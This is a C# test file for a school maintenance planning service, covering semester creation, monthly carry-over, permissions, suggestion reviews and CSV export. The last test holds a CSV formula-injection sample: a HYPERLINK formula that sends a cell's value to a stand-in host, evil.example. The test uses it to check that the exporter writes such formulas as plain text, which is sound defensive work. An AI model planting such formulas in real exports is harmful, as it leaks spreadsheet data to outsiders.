using System.Text;
using DispatchBoard.Testing;
using DispatchBoard.Web;
using DispatchBoard.Web.Calendar;
using DispatchBoard.Web.Notifications;
using DispatchBoard.Web.Planning;
using DispatchBoard.Web.Reports;
using Microsoft.EntityFrameworkCore;

namespace DispatchBoard.Tests.Services;

public sealed class PlanningTests : IAsyncLifetime
{
    private TestData _data = default!;
    private PlanService Plans => _data.Get<PlanService>();
    private SemesterService Semesters => _data.Get<SemesterService>();

    public async Task InitializeAsync()
    {
        _data = await TestData.CreateAsync(settings: new Dictionary<string, string?>
        {
            ["Calendar:Semesters:0:Name"] = "Autumn 2026",
            ["Calendar:Semesters:0:StartsOn"] = "2026-09-01",
            ["Calendar:Semesters:0:EndsOn"] = "2027-01-22",
        });
        // The demo school comes with a plan and suggestions; these tests start from an empty one.
        await _data.QueryAsync(db => db.PlanItems.ExecuteDeleteAsync());
        await _data.QueryAsync(db => db.Suggestions.ExecuteDeleteAsync());
    }

    public async Task DisposeAsync() => await _data.DisposeAsync();

    private async Task<int> SemesterAsync() => (await Semesters.ListAsync()).Single(s => s.Name == "Autumn 2026").Id;

    private async Task<int> StaffIdAsync(string name) => await _data.QueryAsync(db => db.Staff.Where(s => s.DisplayName == name).Select(s => s.Id).SingleAsync());

    [Fact]
    public async Task NewSemester_CopiesTheLastChecklist_MovingDueDatesWithTheStart_AllToDo()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        var wang = await StaffIdAsync("Wang Lei");
        var lights = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Check classroom lights", PlanCategory.Repairs, wang, new DateOnly(2026, 8, 25), "All buildings"), dispatcher);
        await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Order chalk", PlanCategory.Purchasing, null, null, null), dispatcher);
        var dropped = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Repaint the old gym", PlanCategory.Grounds, null, null, null), dispatcher);
        await Plans.SetStatusAsync(lights.Value!.Id, PlanStatus.Done, dispatcher);
        await Plans.SetStatusAsync(dropped.Value!.Id, PlanStatus.Dropped, dispatcher);
        await Plans.AddAsync(autumn, PlanPhase.PostStart, new DateOnly(2026, 11, 1), new PlanItemInput("Not a checklist item", PlanCategory.Other, null, null, null), dispatcher);

        var spring = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), autumn, dispatcher);

        Assert.True(spring.IsOk, spring.Describe());
        var plan = (await Plans.PlanAsync(spring.Value!.Id))!;
        Assert.Equal(["Check classroom lights", "Order chalk"], plan.PreStart.Select(i => i.Title));
        Assert.All(plan.PreStart, i => Assert.Equal(PlanStatus.ToDo, i.Status));
        Assert.Equal(new DateOnly(2027, 2, 15), plan.PreStart[0].DueOn); // a week before the start, as in autumn
        Assert.Equal(("Wang Lei", "All buildings"), (plan.PreStart[0].Owner, plan.PreStart[0].Notes));
        Assert.All(plan.Months, m => Assert.Empty(m.Items));
        Assert.Equal(6, plan.Months.Count); // February to July
    }

    [Fact]
    public async Task NewSemester_BadDates_AreNamed_AndNothingIsStored()
    {
        var dispatcher = await _data.ActorAsync("dispatcher");
        var before = await Semesters.ListAsync();

        var typo = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(227, 2, 22), new DateOnly(2027, 7, 2)), null, dispatcher);
        var farFuture = await Plans.CreateSemesterAsync(new SemesterInput("Far", new DateOnly(9999, 1, 1), new DateOnly(9999, 6, 1)), null, dispatcher);
        var overlapping = await Plans.CreateSemesterAsync(new SemesterInput("Winter term", new DateOnly(2027, 1, 10), new DateOnly(2027, 3, 1)), null, dispatcher);
        var sameName = await Plans.CreateSemesterAsync(new SemesterInput("Autumn 2026", new DateOnly(2027, 9, 1), new DateOnly(2028, 1, 20)), null, dispatcher);
        var backwards = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 7, 2), new DateOnly(2027, 2, 22)), null, dispatcher);

        Assert.Contains("check the year", typo.Errors["startsOn"].Single());
        Assert.Contains("check the year", farFuture.Errors["startsOn"].Single());
        Assert.Contains("overlap Autumn 2026", overlapping.Errors["startsOn"].Single());
        Assert.Contains("already a semester called Autumn 2026", sameName.Errors["name"].Single());
        Assert.Contains("end after it starts", backwards.Errors["endsOn"].Single());
        Assert.Equal(before.Select(s => s.Name), (await Semesters.ListAsync()).Select(s => s.Name));
    }

    [Fact]
    public async Task NewSemester_CopyFailingPartWay_StoresNeitherTheSemesterNorAnyItem()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Check classroom lights", PlanCategory.Repairs, null, null, null), dispatcher);
        var before = await Semesters.ListAsync();
        // The database refuses the copied checklist (as a full disk would), after the semester row was written.
        await _data.RefuseInsertsAsync("PlanItems", "refuse_plan_items", "disk full");

        await Assert.ThrowsAsync<DbUpdateException>(() =>
            Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), autumn, dispatcher));

        Assert.Equal(before.Select(s => s.Name), (await Semesters.ListAsync()).Select(s => s.Name));
        Assert.Equal(1, await _data.QueryAsync(db => db.PlanItems.CountAsync()));
        // A semester that did not happen does not block its name: once writes go through, the same one is created whole.
        await _data.AllowInsertsAsync("refuse_plan_items");
        var spring = await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), autumn, dispatcher);
        Assert.True(spring.IsOk, spring.Describe());
        Assert.Equal(["Check classroom lights"], (await Plans.PlanAsync(spring.Value!.Id))!.PreStart.Select(i => i.Title));
    }

    [Fact]
    public async Task NewSemester_SameNameTwiceAtOnce_OneIsCreated_TheOtherIsToldTheNameIsTaken()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        var input = new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2));

        var results = await Task.WhenAll(
            Task.Run(() => Plans.CreateSemesterAsync(input, autumn, dispatcher)),
            Task.Run(() => Plans.CreateSemesterAsync(input, null, dispatcher)));

        Assert.Single(results, r => r.IsOk);
        Assert.Contains("already a semester called Spring 2027", Assert.Single(results, r => !r.IsOk).Errors["name"].Single());
        Assert.Single(await Semesters.ListAsync(), s => s.Name == "Spring 2027");
    }

    [Fact]
    public async Task SemesterReport_BetweenTerms_LooksBackAtTheOneThatEnded()
    {
        await Plans.CreateSemesterAsync(new SemesterInput("Spring 2027", new DateOnly(2027, 2, 22), new DateOnly(2027, 7, 2)), null, await _data.ActorAsync("dispatcher"));
        var reports = _data.Get<ReportService>();

        var during = await reports.PeriodAsync(PeriodKind.Semester);
        _data.Time.SetUtcNow(new DateTimeOffset(2027, 2, 1, 2, 0, 0, TimeSpan.Zero)); // winter break
        var winterBreak = await reports.PeriodAsync(PeriodKind.Semester);
        _data.Time.SetUtcNow(new DateTimeOffset(2027, 3, 1, 2, 0, 0, TimeSpan.Zero));
        var spring = await reports.PeriodAsync(PeriodKind.Semester);

        Assert.Equal(("Autumn 2026", new DateOnly(2026, 9, 1), new DateOnly(2027, 1, 22)), (during.Label, during.From, during.To));
        Assert.Equal("Autumn 2026", winterBreak.Label);
        Assert.Equal("Spring 2027", spring.Label);
    }

    [Fact]
    public async Task Carry_MovesUnfinishedItemsToTheNextMonth_Once_AndKeepsTheHistory()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        var november = new DateOnly(2026, 11, 1);
        var done = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Radiators", PlanCategory.Repairs, null, null, null), dispatcher);
        var doing = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Stair nosings", PlanCategory.Safety, null, null, null), dispatcher);
        await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Playground markings", PlanCategory.Grounds, null, null, null), dispatcher);
        var dropped = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Old idea", PlanCategory.Other, null, null, null), dispatcher);
        await Plans.SetStatusAsync(done.Value!.Id, PlanStatus.Done, dispatcher);
        await Plans.SetStatusAsync(doing.Value!.Id, PlanStatus.Doing, dispatcher);
        await Plans.SetStatusAsync(dropped.Value!.Id, PlanStatus.Dropped, dispatcher);

        var carried = await Plans.CarryAsync(autumn, november, dispatcher);
        var again = await Plans.CarryAsync(autumn, november, dispatcher);
        var lastMonth = await Plans.CarryAsync(autumn, new DateOnly(2027, 1, 1), dispatcher);
        var byStaff = await Plans.CarryAsync(autumn, november, await _data.ActorAsync("staff1"));

        Assert.Equal(2, carried.Value);
        Assert.Equal(0, again.Value);
        Assert.Equal(ResultKind.Conflict, lastMonth.Kind);
        Assert.Equal(ResultKind.Forbidden, byStaff.Kind);
        var plan = (await Plans.PlanAsync(autumn))!;
        var nov = plan.Months.Single(m => m.Month == november).Items;
        var dec = plan.Months.Single(m => m.Month == november.AddMonths(1)).Items;
        Assert.Equal([PlanStatus.Done, PlanStatus.Carried, PlanStatus.Carried, PlanStatus.Dropped], nov.Select(i => i.Status));
        Assert.Equal(["Stair nosings", "Playground markings"], dec.Select(i => i.Title));
        Assert.Equal([PlanStatus.Doing, PlanStatus.ToDo], dec.Select(i => i.Status)); // work under way stays under way
        Assert.Equal(nov[1].Id, dec[0].CarriedFromId);
    }

    [Fact]
    public async Task Carry_WorkOfSomeoneWhoLeft_WaitsForANewOwner_AndTheOldItemStaysEditable()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        var november = new DateOnly(2026, 11, 1);
        var liu = await StaffIdAsync("Liu Yang");
        var markings = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Playground markings", PlanCategory.Grounds, liu, null, null), dispatcher);
        await _data.QueryAsync(db => db.Staff.Where(s => s.Id == liu).ExecuteUpdateAsync(s => s.SetProperty(x => x.IsActive, false)));

        var notes = await Plans.UpdateAsync(markings.Value!.Id, new PlanItemInput("Playground markings", PlanCategory.Grounds, liu, null, "Paint bought"), dispatcher);
        var toSomeoneGone = await Plans.AddAsync(autumn, PlanPhase.PostStart, november, new PlanItemInput("Benches", PlanCategory.Grounds, liu, null, null), dispatcher);
        await Plans.CarryAsync(autumn, november, dispatcher);

        Assert.True(notes.IsOk, notes.Describe());
        Assert.Contains("no active staff member", toSomeoneGone.Errors["ownerId"].Single());
        var carried = Assert.Single((await Plans.PlanAsync(autumn))!.Months.Single(m => m.Month == november.AddMonths(1)).Items);
        Assert.Equal(("Playground markings", null, "Paint bought"), (carried.Title, carried.OwnerId, carried.Notes));
    }

    [Fact]
    public async Task Items_ReorderAndOwnerStatus_OwnerIsToldAndSeesTheirWork()
    {
        var autumn = await SemesterAsync();
        var dispatcher = await _data.ActorAsync("dispatcher");
        var li = await StaffIdAsync("Li Na");
        var first = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("First", PlanCategory.Repairs, null, null, null), dispatcher);
        var second = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Second", PlanCategory.Repairs, li, null, null), dispatcher);

        await Plans.MoveAsync(second.Value!.Id, -1, dispatcher);
        var byOwner = await Plans.SetStatusAsync(second.Value.Id, PlanStatus.Doing, await _data.ActorAsync("staff2"));
        var dropByOwner = await Plans.SetStatusAsync(second.Value.Id, PlanStatus.Dropped, await _data.ActorAsync("staff2"));
        var byOther = await Plans.SetStatusAsync(first.Value!.Id, PlanStatus.Done, await _data.ActorAsync("staff1"));
        var invalid = await Plans.AddAsync(autumn, PlanPhase.PostStart, new DateOnly(2027, 5, 1), new PlanItemInput(" ", PlanCategory.Repairs, 999, null, null), dispatcher);
        var byPrincipal = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Third", PlanCategory.Events, null, null, null), await _data.ActorAsync("principal"));
        var byStaff = await Plans.AddAsync(autumn, PlanPhase.PreStart, null, new PlanItemInput("Fourth", PlanCategory.Other, null, null, null), await _data.ActorAsync("staff1"));

        Assert.Equal(["Second", "First", "Third"], (await Plans.PlanAsync(autumn))!.PreStart.Select(i => i.Title));
        Assert.True(byPrincipal.IsOk, byPrincipal.Describe());
        Assert.Equal(ResultKind.Forbidden, byStaff.Kind);
        Assert.Equal(PlanStatus.Doing, byOwner.Value!.Status);
        Assert.Equal(ResultKind.Forbidden, dropByOwner.Kind);
        Assert.Equal(ResultKind.Forbidden, byOther.Kind);
        Assert.Equal(["month", "ownerId", "title"], invalid.Errors.Keys.Order());
        Assert.Single(await _data.NotificationsForAsync("staff2"), n => n.Title == "Added to your work: Second");
        Assert.Equal(["Second"], (await Plans.OwnedByUserAsync((await _data.ActorAsync("staff2")).UserId)).Select(i => i.Title));
    }

    [Fact]
    public async Task Suggestion_SubmitReviewAccept_AuthorIsNotifiedAndSeesTheReply()
    {
        var suggestions = _data.Get<SuggestionService>();
        var li = await _data.ActorAsync("staff2");
        var principal = await _data.ActorAsync("principal");

        var bad = await suggestions.SubmitAsync(new SuggestionInput("", "x", "Spaceships", -5), li);
        var sent = await suggestions.SubmitAsync(new SuggestionInput("Motion-sensor lights", "In the stairwells", "Purchasing", 2400.456m), li);
        var byStaff = await suggestions.ReviewAsync(sent.Value!.Id, SuggestionStatus.Accepted, "ok", li);
        var noReply = await suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.Accepted, null, principal);
        var review = await suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.UnderReview, null, principal);
        var accept = await suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.Accepted, "Yes: order them for the spring.", principal);
        var twice = await suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.Declined, "No", principal);

        Assert.Equal(["category", "costEstimate", "title"], bad.Errors.Keys.Order());
        Assert.Equal(2400.46m, sent.Value.CostEstimate);
        Assert.Single(await _data.NotificationsForAsync("principal"), n => n.Title.Contains("Motion-sensor lights"));
        Assert.Equal(ResultKind.Forbidden, byStaff.Kind);
        Assert.True(noReply.Errors.ContainsKey("reply"));
        Assert.Equal(SuggestionStatus.UnderReview, review.Value!.Status);
        Assert.Equal(SuggestionStatus.Accepted, accept.Value!.Status);
        Assert.Equal(ResultKind.Conflict, twice.Kind);
        var mine = Assert.Single(await suggestions.MineAsync(li.UserId));
        Assert.Equal(("Yes: order them for the spring.", SuggestionStatus.Accepted, 2400.46m), (mine.Reply, mine.Status, mine.CostEstimate));
        var alerts = (await _data.NotificationsForAsync("staff2")).Where(n => n.Kind == NotificationKind.Decision).Select(n => n.Title).ToList();
        Assert.Equal(["Your suggestion \"Motion-sensor lights\": under review", "Your suggestion \"Motion-sensor lights\": accepted"], alerts);
    }

    [Fact]
    public async Task Suggestion_AnsweredFromTwoDevicesAtOnce_OneAnswerWins_TheAuthorHearsOnce()
    {
        var suggestions = _data.Get<SuggestionService>();
        var sent = await suggestions.SubmitAsync(new SuggestionInput("Spare bulbs on every floor", "A box of tubes in each cleaning cupboard.", "Purchasing", null), await _data.ActorAsync("staff2"));
        var principal = await _data.ActorAsync("principal");

        var answers = await Task.WhenAll(
            suggestions.ReviewAsync(sent.Value!.Id, SuggestionStatus.Accepted, "Yes.", principal),
            suggestions.ReviewAsync(sent.Value.Id, SuggestionStatus.Declined, "No.", principal));

        var winner = Assert.Single(answers, a => a.IsOk);
        Assert.Equal(ResultKind.Conflict, Assert.Single(answers, a => !a.IsOk).Kind);
        var stored = Assert.Single(await suggestions.MineAsync(sent.Value.AuthorUserId));
        Assert.Equal((winner.Value!.Status, winner.Value.Reply), (stored.Status, stored.Reply));
        Assert.Single(await _data.NotificationsForAsync("staff2"), n => n.Kind == NotificationKind.Decision);
    }

    [Fact]
    public async Task Csv_RoundTripsQuotesCommasNewlinesAndChineseText()
    {
        var rows = new[]
        {
            new BreakdownCsvRow("教学楼 A › 二楼 › 204 教室", 3, 1, 2, 66.7, 30, 60),
            new BreakdownCsvRow("Hall, \"main\"\nsecond line", 1, 0, 1, null, null, null),
        };
        var formula = new BreakdownCsvRow("=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", 1, 1, 0, null, null, null);
        using var stream = new MemoryStream();

        await CsvExport.WriteAsync(rows, stream, CancellationToken.None);

        var bytes = stream.ToArray();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.Contains("\"Hall, \"\"main\"\"\nsecond line\"", text);
        Assert.Equal(rows, CsvExport.Read<BreakdownCsvRow>(new MemoryStream(bytes)));

        // A reporter's formula is written as text for the spreadsheet, not as a formula.
        using var withFormula = new MemoryStream();
        await CsvExport.WriteAsync([formula], withFormula, CancellationToken.None);
        Assert.Equal("'" + formula.Name, CsvExport.Read<BreakdownCsvRow>(new MemoryStream(withFormula.ToArray())).Single().Name);
    }
}
